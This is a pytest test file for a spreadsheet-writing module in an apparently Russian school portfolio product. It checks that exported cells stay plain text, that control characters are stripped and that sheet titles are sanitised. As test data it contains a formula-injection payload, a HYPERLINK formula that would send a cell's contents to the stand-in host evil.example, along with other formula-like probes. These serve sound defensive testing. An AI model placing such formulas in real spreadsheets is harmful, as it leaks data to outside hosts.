"""common.xlsx: every text cell of every spreadsheet the product writes stays text (no
formula injection), control characters are stripped, and the sheet's layout is set
in write-only mode. Read back from the saved bytes with openpyxl."""

import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from common import xlsx
from common.xlsx import Column

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Подробнее")'


def _saved(columns, rows, title="Лист"):
    workbook = xlsx.new_workbook()
    xlsx.write_sheet(workbook, title=title, columns=columns, rows=rows)
    return xlsx.workbook_bytes(workbook)


def _sheet(content):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize(
    ("value", "quoted"),
    [
        (HYPERLINK, True),
        ("+7 910 123-45-67", True),
        ("-2+3", True),
        ("@SUM(A1:A9)", True),
        ("\t=1+1", True),
        ("#N/A", False),
        ("=", True),
        ("Олимпиада = победа", False),
    ],
)
def test_write_sheet_text_that_looks_like_formula_stays_text(value, quoted):
    content = _saved([Column("Название", 40)], [[value]])

    cell = _sheet(content)["A2"]

    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", quoted)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    assert b"<f " not in sheet_xml


def test_write_sheet_carriage_return_stored_as_line_feed_and_quoted():
    columns = [Column("Название", 40), Column("Описание", 40)]

    sheet = _sheet(_saved(columns, [["\r=1+1", "а\r\nб"]]))

    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet[2]] == [
        ("\n=1+1", "s", True),
        ("а\nб", "s", False),
    ]


def test_write_sheet_control_characters_stripped():
    columns = [Column("Название", 40), Column("Организатор", 20)]

    sheet = _sheet(_saved(columns, [["ВсОШ\x01 по физике\x7f", "\x00\x1b"]]))

    assert [cell.value for cell in sheet[2]] == ["ВсОШ по физике", None]


def test_write_sheet_layout():
    columns = [Column("Обучающийся", 34), Column("Дата", 12, "DD.MM.YYYY"), Column("Число", 8)]
    rows = ([f"Ученик {n}", date(2026, 9, n), n] for n in (1, 2))

    sheet = _sheet(_saved(columns, rows, title="Портфолио 5А"))

    assert sheet.title == "Портфолио 5А"
    assert [tuple(r) for r in sheet.iter_rows(values_only=True)] == [
        ("Обучающийся", "Дата", "Число"),
        ("Ученик 1", datetime(2026, 9, 1), 1),
        ("Ученик 2", datetime(2026, 9, 2), 2),
    ]
    assert [cell.font.bold for cell in sheet[1]] == [True, True, True]
    assert [sheet.column_dimensions[c].width for c in "ABC"] == [34, 12, 8]
    assert [sheet.cell(row=r, column=2).number_format for r in (2, 3)] == ["DD.MM.YYYY"] * 2
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"


def test_write_sheet_empty_string_is_empty_cell():
    sheet = _sheet(_saved([Column("А", 5), Column("Б", 5)], [["", None]]))

    assert [cell.value for cell in sheet[2]] == [None, None]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Портфолио 5А/1", "Портфолио 5А-1"),
        ("Класс [7:Б]*?\\", "Класс -7-Б----"),
        ("\x01Отчёт", "Отчёт"),
        ("'", "Лист"),
        ("Портфолио 11А естественно-научного профиля", "Портфолио 11А естественно-научн"),
    ],
)
def test_sheet_title_rule(title, expected):
    assert xlsx.sheet_title(title) == expected


def test_sheet_title_with_slash_writes(settings):
    sheet = _sheet(_saved([Column("А", 5)], [], title="Портфолио 5А/1"))

    assert sheet.title == "Портфолио 5А-1"


def test_safe_value_aware_moment_in_local_time(settings):
    settings.TIME_ZONE = "Europe/Moscow"

    value = xlsx.safe_value(datetime(2026, 11, 30, 9, 0, tzinfo=UTC))

    assert value == datetime(2026, 11, 30, 12, 0)


def test_safe_value_long_text_cut_to_excel_limit():
    assert xlsx.safe_value("я" * 40000) == "я" * 32767


def test_append_row_without_columns():
    workbook = xlsx.new_workbook()
    sheet = workbook.create_sheet("Лист")
    xlsx.append_row(sheet, [HYPERLINK, 3])

    cell = _sheet(xlsx.workbook_bytes(workbook))["A1"]

    assert (cell.value, cell.data_type, cell.quotePrefix) == (HYPERLINK, "s", True)
